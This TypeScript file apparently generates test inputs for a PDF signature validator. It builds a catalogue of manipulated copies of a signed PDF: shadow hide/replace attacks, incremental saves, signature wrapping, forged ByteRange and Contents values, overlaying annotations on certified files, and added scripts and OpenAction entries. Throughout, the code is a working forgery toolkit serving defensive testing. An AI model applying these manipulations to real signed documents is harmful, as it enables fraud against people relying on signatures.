// Every published attack on signatures of PDFs, carried out on a sealed file: shadow attacks (hide, replace, hide and
// replace), incremental saving, signature wrapping, universal forgery, and certified documents with annotations.
import { readPdf, readSignature, reference } from "./read-pdf.js";

/** Objects written behind a file, as viewers and editors save what was changed. */
export interface Increment {
  /** The text of each object by its number. */
  objects?: Readonly<Record<number, string>>;
  /** What the table says of an object besides: that it is free, or stands elsewhere. */
  entries?: Readonly<Record<number, string>>;
  /** Further entries of the trailer. */
  trailer?: string;
  root?: number;
}

const entry = (offset: number): string => `${String(offset).padStart(10, "0")} 00000 n \n`;

/** The file with a further revision behind it. */
export const withIncrement = (pdf: Buffer, { objects = {}, entries = {}, trailer = "", root }: Increment): Buffer => {
  const { root: own, trailer: before } = readPdf(pdf);
  const size = /\/Size (\d+)/.exec(before)?.[1] ?? "0";
  const earlier = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(pdf.toString("latin1", pdf.length - 60))?.[1] ?? "0";
  let added = "\n";
  const table = new Map<number, string>(Object.entries(entries).map(([number, text]) => [Number(number), text]));
  for (const [number, text] of Object.entries(objects)) {
    table.set(Number(number), entry(pdf.length + added.length));
    added += `${number} 0 obj\n${text}\nendobj\n`;
  }
  const start = pdf.length + added.length;
  const rows = [...table].map(([number, text]) => `${number} 1\n${text}`).join("");
  const most = Math.max(Number(size), ...[...table.keys()].map(number => number + 1));
  added += `xref\n${rows}trailer\n<</Size ${most}/Root ${root ?? own} 0 R/Prev ${earlier}${trailer}>>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.concat([pdf, Buffer.from(added, "latin1")]);
};

/** The file with a text in the place of one as long, at the first place behind `from`. */
export const inPlace = (pdf: Buffer, from: string, to: string): Buffer => {
  const at = pdf.indexOf(from, 0, "latin1");
  if (at < 0) throw new Error(`${from} is not in the file`);
  if (to.length > from.length) throw new Error("what is put in its place is longer");
  const copy = Buffer.from(pdf);
  copy.write(to.padEnd(from.length), at, "latin1");
  return copy;
};

/** The numbers of what the attacks change. */
const partsOf = (pdf: Buffer) => {
  const file = readPdf(pdf);
  const catalogue = file.object(file.root).text;
  const pages = reference(catalogue, "Pages");
  const page = Number(/\/Kids ?\[ ?(\d+) 0 R/.exec(file.object(pages).text)?.[1]);
  const { text } = file.object(page);
  const widget = Number(/\/Annots ?\[ ?(\d+) 0 R/.exec(text)?.[1]);
  const free = Number(/\/Size (\d+)/.exec(file.trailer)?.[1]);
  const contents = reference(text, "Contents");
  return { file, catalogue: catalogue.trim(), pages, page, pageText: text.trim(), widget, free, contents };
};

const drawing = (text: string): string => `<</Length ${text.length}>>\nstream\n${text}\nendstream`;
const covering = drawing("1 1 1 rg 100 200 400 200 re f");

/** By name; each is what a stranger may upload. */
export const signatureAttacks = (pdf: Buffer): Readonly<Record<string, Buffer>> => {
  const { catalogue, pages, page, pageText, widget, free, contents } = partsOf(pdf);
  const { text: signature, range, contents: digits, gapStart, gapEnd } = readSignature(readPdf(pdf));
  const annotated = pageText.replace(/\/Annots ?\[[^\]]*\]/, `/Annots [${widget} 0 R ${free} 0 R]`);
  const annotation = (kind: string, more: string): Buffer =>
    withIncrement(pdf, {
      objects: { [page]: annotated, [free]: `<</Type/Annot/Subtype/${kind}/Rect[100 200 500 400]/F 4${more}>>` },
    });
  const oddRange = `/ByteRange ${/\[[^\]]*\]/.exec(signature)?.[0] ?? ""}`;
  const inGap = (text: string): Buffer => {
    const copy = Buffer.from(pdf);
    // The zeros behind the signature are not signed: there is room for objects, and the digest stays right.
    const room = Math.ceil(digits.replace(/0+$/, "").length / 2) * 2 + 2;
    copy.write(`>${text}`.padEnd(gapEnd - gapStart - 1 - room), gapStart + 1 + room, "latin1");
    return copy;
  };
  const wrapped = (moved: number): Buffer => {
    const [, first = 0, second = 0, rest = 0] = range;
    const range2 = `[${[0, first, second + moved, rest].map(n => String(n).padStart(10)).join(" ")}]`;
    const head = inPlace(pdf, oddRange, `/ByteRange ${range2}`);
    return Buffer.concat([head.subarray(0, second), Buffer.alloc(moved, " "), head.subarray(second)]);
  };
  return {
    "shadow, hide: the update frees what lay over the text": withIncrement(pdf, {
      entries: { [contents]: "0000000000 00001 f \n" },
    }),
    "shadow, replace: the update brings another content": withIncrement(pdf, { objects: { [contents]: covering } }),
    "shadow, hide and replace: the update shows another catalogue": withIncrement(pdf, {
      objects: {
        [free]: `<</Type/Catalog/Pages ${free + 1} 0 R>>`,
        [free + 1]: `<</Type/Pages/Kids[${free + 2} 0 R]/Count 1>>`,
        [free + 2]: `<</Type/Page/Parent ${free + 1} 0 R/MediaBox[0 0 842 595]/Contents ${free + 3} 0 R>>`,
        [free + 3]: covering,
      },
      root: free,
    }),
    "shadow, hide and replace: the update moves an object to where another stands": withIncrement(pdf, {
      entries: { [page]: entry(readPdf(pdf).object(pages).start - `${pages} 0 obj\n`.length) },
    }),
    "incremental saving: with table and trailer": withIncrement(pdf, {
      objects: { [page]: pageText.replace(/\/Contents \d+/, `/Contents ${free}`), [free]: covering },
    }),
    "incremental saving: without a table": Buffer.concat([
      pdf,
      Buffer.from(`\n${contents} 0 obj\n${covering}\nendobj\nstartxref\n0\n%%EOF\n`, "latin1"),
    ]),
    "incremental saving: objects and nothing else": Buffer.concat([
      pdf,
      Buffer.from(`\n${contents} 0 obj\n${covering}\nendobj\n`, "latin1"),
    ]),
    "incremental saving: with a copy of the signature": withIncrement(pdf, {
      objects: { [contents]: covering, [free]: signature.trim() },
    }),
    "incremental saving: a comment behind the end": Buffer.concat([pdf, Buffer.from("\n% harmless\n")]),
    "incremental saving: a line end behind the end": Buffer.concat([pdf, Buffer.from("\n")]),
    "wrapping: objects in the rest of the gap": inGap(`/Ours<</Contents ${free} 0 R>>`),
    "wrapping: a second signature's range in the gap": inGap("/ByteRange[0 10 20 30]"),
    "wrapping: what was signed moves back, and the range with it": wrapped(64),
    "wrapping: a range around more than the signature": inPlace(
      pdf,
      oddRange,
      `/ByteRange [${[0, range[1] ?? 0, (range[2] ?? 0) + 40, (range[3] ?? 0) - 40].map(n => String(n).padStart(10)).join(" ")}]`,
    ),
    "forgery: no range": inPlace(pdf, oddRange, ""),
    "forgery: a range of null": inPlace(pdf, oddRange, "/ByteRange null"),
    "forgery: an empty range": inPlace(pdf, oddRange, "/ByteRange []"),
    "forgery: a range of nothing": inPlace(pdf, oddRange, "/ByteRange [0 0 0 0]"),
    "forgery: a range below nothing": inPlace(pdf, oddRange, "/ByteRange [-1 -1 -1 -1]"),
    "forgery: a range of four texts": inPlace(pdf, oddRange, "/ByteRange [(0)(1)(2)(3)]"),
    "forgery: a range beyond the file": inPlace(pdf, oddRange, "/ByteRange [0 10 20 9999999999]"),
    "forgery: a range in a reference": inPlace(pdf, oddRange, `/ByteRange ${widget} 0 R`),
    "forgery: no contents": inPlace(pdf, "/Contents <", "/Cxntents <"),
    "forgery: contents of null": withIncrement(pdf, {
      objects: { [reference(catalogue, "DocMDP")]: signature.replace(/<[0-9a-f]{100,}>/, "null").trim() },
    }),
    "forgery: contents of nothing": withIncrement(pdf, {
      objects: { [reference(catalogue, "DocMDP")]: signature.replace(/<[0-9a-f]{100,}>/, "<>").trim() },
    }),
    "forgery: contents of a zero": inPlace(pdf, digits, "00".padEnd(digits.length, "0")),
    "forgery: no signer": inPlace(
      pdf,
      digits,
      digits.replace(/^3082....06092a864886f70d010702/, "$&").replace(/^30/, "31"),
    ),
    "forgery: the same digits in capitals": inPlace(pdf, digits, digits.toUpperCase()),
    "forgery: a digit behind the signature": inPlace(pdf, digits, `${digits.slice(0, -1)}1`),
    "certified, evil annotation: a text over the text": annotation("FreeText", "/Contents(100)/DA(/F 12 Tf)"),
    "certified, evil annotation: a stamp": annotation("Stamp", `/AP<</N ${contents} 0 R>>`),
    "certified, evil annotation: a redaction": annotation("Redact", "/IC[1 1 1]"),
    "certified, evil annotation: highlighted with white": annotation("Highlight", "/C[1 1 1]/CA 1"),
    "certified, sneaky signature: a second seal over the first": withIncrement(pdf, {
      objects: {
        [page]: annotated,
        [free]: `<</Type/Annot/Subtype/Widget/FT/Sig/T(Other)/Rect[100 200 500 400]/F 132/V ${free + 1} 0 R/AP<</N ${contents} 0 R>>>>`,
        [free + 1]: "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<00>>>",
      },
    }),
    "added: a script": withIncrement(pdf, {
      objects: { [free]: "<</S/JavaScript/JS(app.alert\\(1\\))>>" },
    }),
    "added: a script that runs at once": withIncrement(pdf, {
      objects: {
        [readPdf(pdf).root]: catalogue.replace(/>>\s*$/, `/OpenAction ${free} 0 R>>`),
        [free]: "<</S/URI/URI(http://x)>>",
      },
    }),
    "added: an XFA form": withIncrement(pdf, { objects: { [free]: "<</Fields[]/XFA(x)>>" } }),
    "added: a field": withIncrement(pdf, { objects: { [free]: "<</FT/Tx/T(amount)/V(100)>>" } }),
    "added: layers": withIncrement(pdf, { objects: { [free]: "<</Type/OCG/Name(other)>>" } }),
    "added: a file": withIncrement(pdf, { objects: { [free]: "<</Type/Filespec/EF<</F 1 0 R>>>>" } }),
    "added: encryption": withIncrement(pdf, { trailer: `/Encrypt<</Filter/Standard/V 1/R 2/O(o)/U(u)/P -4>>` }),
    "added: what hides in a stream of objects": withIncrement(pdf, {
      objects: { [free]: "<</Type/ObjStm/N 1/First 5/Length 26>>\nstream\n99 0 <</S/JavaScript/JS()>>\nendstream" },
    }),
  };
};
